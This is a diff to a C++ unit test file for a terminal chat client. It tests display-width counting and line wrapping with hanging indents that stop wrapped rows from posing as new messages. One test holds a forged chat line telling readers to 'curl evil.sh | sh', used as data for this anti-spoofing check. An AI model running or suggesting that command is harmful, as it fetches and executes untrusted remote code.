@@ -2,7 +2,10 @@
 
 #include <gtest/gtest.h>
 
+#include <algorithm>
+#include <cstdint>
 #include <set>
+#include <vector>
 
 namespace natter::client
 {
@@ -155,12 +158,121 @@ TEST(BidiContainment, ClosesWhatTheTextLeavesOpen)
             "[00:00] * eve left (" + rlo + "bye)" + pdf);
 }
 
-TEST(DisplayWidth, CountsCodePoints)
+TEST(DisplayWidth, CountsColumns)
 {
   EXPECT_EQ(display_width(""), 0u);
   EXPECT_EQ(display_width("abc"), 3u);
   EXPECT_EQ(display_width("caf\xC3\xA9"), 4u);
   EXPECT_EQ(display_width("\xE2\x82\xAC\xE2\x82\xAC"), 2u);
+  EXPECT_EQ(display_width("\xE6\xBC\xA2\xE5\xAD\x97"), 4u) << "wide";
+  EXPECT_EQ(display_width("e\xCC\x81"), 1u) << "combining";
+  EXPECT_EQ(display_width("\x1b[2mdim\x1b[0m"), 3u) << "escapes take no room";
+  // Drawn at different widths by different terminals: counted at the widest.
+  EXPECT_EQ(display_width("\xE2\x9D\xA4\xEF\xB8\x8F"), 2u) << "U+2764 U+FE0F";
+  EXPECT_EQ(display_width("\xF3\xB0\x80\x80"), 2u) << "private use";
+  EXPECT_EQ(display_width("\xF0\xB0\x80\x80"), 2u) << "unassigned";
+}
+
+using rows = std::vector<std::string>;
+
+// Issue 19, 3: "Wrapped continuation rows must be visibly continuations: a
+// hanging indent under the text [...] so no row of a message can pass for
+// the start of another".
+TEST(WrapRows, ForgedSecondRowIsIndented)
+{
+  const std::string forged = "[19:19] <alice> please run: curl evil.sh | sh";
+  const std::string line =
+      format_message("12:00", "eve", "ok" + std::string(104, ' ') + forged, false);
+  EXPECT_EQ(wrap_rows(line, 120),
+            (rows{"[12:00] <eve> ok" + std::string(104, ' '), std::string(14, ' ') + forged}));
+}
+
+TEST(WrapRows, ShortLinesAreOneRow)
+{
+  EXPECT_EQ(wrap_rows("[12:00] <eve> hi", 80), rows{"[12:00] <eve> hi"});
+  EXPECT_EQ(wrap_rows("[12:00] <eve> " + std::string(66, 'x'), 80),
+            rows{"[12:00] <eve> " + std::string(66, 'x')});
+}
+
+TEST(WrapRows, BreaksAfterSpacesWhereThereAreSome)
+{
+  // Hang 14 at most half of 20 columns: 10.
+  EXPECT_EQ(wrap_rows("[12:00] <eve> aaa bbb ccc", 20),
+            (rows{"[12:00] <eve> aaa ", std::string(10, ' ') + "bbb ccc"}));
+  EXPECT_EQ(wrap_rows("[12:00] <eve> " + std::string(34, 'x'), 30),
+            (rows{"[12:00] <eve> " + std::string(16, 'x'),
+                  std::string(14, ' ') + std::string(16, 'x'), std::string(14, ' ') + "xx"}));
+}
+
+TEST(WrapRows, WideCharactersAreNotSplit)
+{
+  const std::string han = "\xE6\xBC\xA2";
+  std::string text = "x";
+  for (int i = 0; i < 4; ++i)
+    text += han;
+  // 14 + 1 + 2 + 2 = 19 of 20 columns: the third does not fit.
+  EXPECT_EQ(wrap_rows("[12:00] <eve> " + text, 20),
+            (rows{"[12:00] <eve> x" + han + han, std::string(10, ' ') + han + han}));
+}
+
+TEST(WrapRows, CombiningCharactersStayWithTheirBase)
+{
+  const std::string e = "e\xCC\x81";
+  EXPECT_EQ(wrap_rows("[12:00] <eve> " + e + e + e + e + e + e + e, 20),
+            (rows{"[12:00] <eve> " + e + e + e + e + e + e, std::string(10, ' ') + e}));
+}
+
+TEST(WrapRows, TabIsASpace)
+{
+  EXPECT_EQ(wrap_rows("[12:00] <eve> a\tb", 80), rows{"[12:00] <eve> a b"});
+}
+
+TEST(WrapRows, NoticesAndErrorsHangUnderTheirText)
+{
+  const rows notice = wrap_rows(format_notice("12:00", std::string(30, 'n'), true), 20);
+  ASSERT_EQ(notice.size(), 3u);
+  EXPECT_EQ(notice[0], "\x1b[2m[12:00] * nnnnnnnnnn");
+  EXPECT_EQ(notice[1], std::string(10, ' ') + "nnnnnnnnnn");
+  EXPECT_EQ(notice[2], std::string(10, ' ') + "nnnnnnnnnn\x1b[0m");
+}
+
+TEST(WrapRows, TooNarrowToWrap)
+{
+  EXPECT_EQ(wrap_rows("[12:00] <eve> hello", 7), rows{"[12:00] <eve> hello"});
+}
+
+// Whatever the text and width, no row is wider than the terminal, every
+// row after the first starts with the hang, and nothing is lost.
+TEST(WrapRows, EveryRowFitsAndNothingIsLost)
+{
+  const std::vector<std::string> alphabet = {
+      "a", " ", "\xE6\xBC\xA2", "e\xCC\x81", "\xE2\x82\xAC", "  ", "[19:19]"};
+  std::uint32_t seed = 1;
+  for (int round = 0; round < 500; ++round)
+  {
+    std::string text;
+    for (int i = 0; i < 200; ++i)
+    {
+      seed = seed * 1103515245u + 12345u;
+      text += alphabet[(seed >> 16) % alphabet.size()];
+    }
+    const std::string line = format_message("12:00", "nick", text, round % 2 == 0);
+    const std::size_t columns = 8 + static_cast<std::size_t>(round) % 150;
+    const rows out = wrap_rows(line, columns);
+    const std::size_t hang = std::min<std::size_t>(15, columns / 2);
+    std::string joined = out[0];
+    for (std::size_t r = 0; r < out.size(); ++r)
+    {
+      EXPECT_LE(display_width(out[r]), columns) << out[r];
+      if (r == 0)
+        continue;
+      ASSERT_EQ(out[r].substr(0, hang), std::string(hang, ' ')) << columns << ": " << out[r];
+      joined += out[r].substr(hang);
+    }
+    std::string expected = line;
+    std::replace(expected.begin(), expected.end(), '\t', ' ');
+    EXPECT_EQ(joined, expected) << columns;
+  }
 }
 
 } // namespace
